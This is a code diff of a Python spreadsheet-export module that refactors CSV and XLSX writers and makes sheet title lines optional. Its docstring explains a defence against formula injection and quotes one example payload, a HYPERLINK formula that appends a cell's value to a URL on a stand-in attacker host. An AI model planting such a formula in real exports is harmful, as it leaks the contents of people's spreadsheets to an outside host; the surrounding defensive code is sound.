@@ -2,9 +2,10 @@
 
 A household's contact or a unit's name typed as ``=HYPERLINK("http://evil.example/x?"&A2,
 "点击查看")`` must reach the person who opens an export as that text, never as a live
-formula. One rule for every writer (grids.io.exporting, governance.reports.exports):
-- XLSX: every text cell is a string cell (``data_type 's'``) with its text unchanged —
-  openpyxl would otherwise store text starting with "=" as a formula;
+formula. One rule for every writer (grids.io.exporting, governance.reports.exports, through
+the writers below: ``csv_stream`` and ``XlsxBook``):
+- XLSX: every text cell is a string cell (``data_type 's'``, written by ``write_string``)
+  with its text unchanged, never a formula;
 - CSV: text starting with ``= + - @``, a tab or a carriage return gets a leading ``'``
   (what spreadsheet programs read as "this is text"); numbers, also written as text
   (``-3``, ``93.72``, ``-1.5%``), are never changed.
@@ -29,27 +30,7 @@ def csv_row(values) -> list:
     return [csv_cell(v) for v in values]
 
 
-def set_xlsx_value(cell, value) -> None:
-    """Put ``value`` in an openpyxl cell; text stays text (a string cell), never a formula."""
-    cell.value = value
-    if isinstance(value, str):
-        cell.data_type = "s"
-
-
-def xlsx_cell(sheet, value=None, *, number_format: str | None = None, font=None):
-    """A write-only cell holding ``value`` (text as a string cell), optionally styled."""
-    from openpyxl.cell import WriteOnlyCell
-
-    cell = WriteOnlyCell(sheet)
-    if font is not None:
-        cell.font = font
-    if number_format is not None:
-        cell.number_format = number_format
-    set_xlsx_value(cell, value)
-    return cell
-
-
-# --- writers: one CSV stream, one XLSX sheet writer, for every export ---------------------------
+# --- writers: one CSV stream, one XLSX writer, for every export ---------------------------------
 
 BOM = "\ufeff"  # Excel opens a CSV as UTF-8 only with it
 
@@ -86,33 +67,6 @@ def sheet_max_rows() -> int:
     return min(int(getattr(settings, "EXPORT_XLSX_SHEET_MAX_ROWS", 1_000_000)), 1_048_000)
 
 
-class SheetWriter:
-    """Rows into a write-only workbook's sheet named ``title``; past ``max_rows`` data rows
-    the next sheet ("title (2)" …) continues, with the same head (``head(sheet)`` writes
-    the title and header rows and sets widths and frozen panes)."""
-
-    def __init__(self, workbook, title: str, head, *, max_rows: int | None = None):
-        self.workbook, self.title, self.head = workbook, title[:31].replace("/", "-"), head
-        self.max_rows = max_rows or sheet_max_rows()
-        self.sheets = 0
-        self.rows_in_sheet = 0
-        self.sheet = self._next()
-
-    def _next(self):
-        self.sheets += 1
-        name = self.title if self.sheets == 1 else f"{self.title[:25]} ({self.sheets})"
-        sheet = self.workbook.create_sheet(title=name)
-        self.head(sheet)
-        self.rows_in_sheet = 0
-        return sheet
-
-    def append(self, cells) -> None:
-        if self.rows_in_sheet >= self.max_rows:
-            self.sheet = self._next()
-        self.sheet.append(cells)
-        self.rows_in_sheet += 1
-
-
 class XlsxBook:
     """An XLSX written row by row by XlsxWriter in constant-memory mode — each row goes to a
     temporary file as the next begins, so memory stays flat — for the exports as long as the
@@ -136,7 +90,7 @@ class XlsxBook:
             self._formats[key] = self.book.add_format(spec) if spec else None
         return self._formats[key]
 
-    def sheet(self, title: str, *, title_line: str, header: list[str], widths: list[float],
+    def sheet(self, title: str, *, title_line: str | None, header: list[str], widths: list[float],
               number_formats: list[str | None], max_rows: int | None = None) -> "XlsxSheet":
         return XlsxSheet(self, title, title_line=title_line, header=header, widths=widths,
                          number_formats=number_formats, max_rows=max_rows)
@@ -146,11 +100,11 @@ class XlsxBook:
 
 
 class XlsxSheet:
-    """One table of an ``XlsxBook``: a title line and a bold header first, frozen below them;
+    """One table of an ``XlsxBook``: a title line (unless None) and a bold header first, frozen below them;
     past ``max_rows`` data rows (``sheet_max_rows``) the next sheet "title (2)" continues it
     with the same head."""
 
-    def __init__(self, book: XlsxBook, title: str, *, title_line: str, header: list[str], widths: list[float],
+    def __init__(self, book: XlsxBook, title: str, *, title_line: str | None, header: list[str], widths: list[float],
                  number_formats: list[str | None], max_rows: int | None):
         self.book, self.title = book, title[:31].replace("/", "-")
         self.title_line, self.header, self.widths = title_line, header, widths
@@ -165,15 +119,18 @@ class XlsxSheet:
         sheet = self.sheet = self.book.book.add_worksheet(name)
         for index, width in enumerate(self.widths):
             sheet.set_column(index, index, width, self.formats[index])
-        sheet.write_string(0, 0, self.title_line, self.book.format(bold=True, font_size=13))
+        row = 0
+        if self.title_line is not None:
+            sheet.write_string(0, 0, self.title_line, self.book.format(bold=True, font_size=13))
+            row = 1
         bold = self.book.format(bold=True)
         for index, label in enumerate(self.header):
-            sheet.write_string(1, index, str(label), bold)
-        sheet.freeze_panes(2, 0)
-        self.row = 2  # the next row's index
-        self.first = 2
+            sheet.write_string(row, index, str(label), bold)
+        sheet.freeze_panes(row + 1, 0)
+        self.row = self.first = row + 1  # the next row's index
 
     def append(self, values) -> None:
+        """One row of values (None or "" leaves the cell empty), each column in its format."""
         if self.row - self.first >= self.max_rows:
             self._next()
         sheet, row, formats = self.sheet, self.row, self.formats
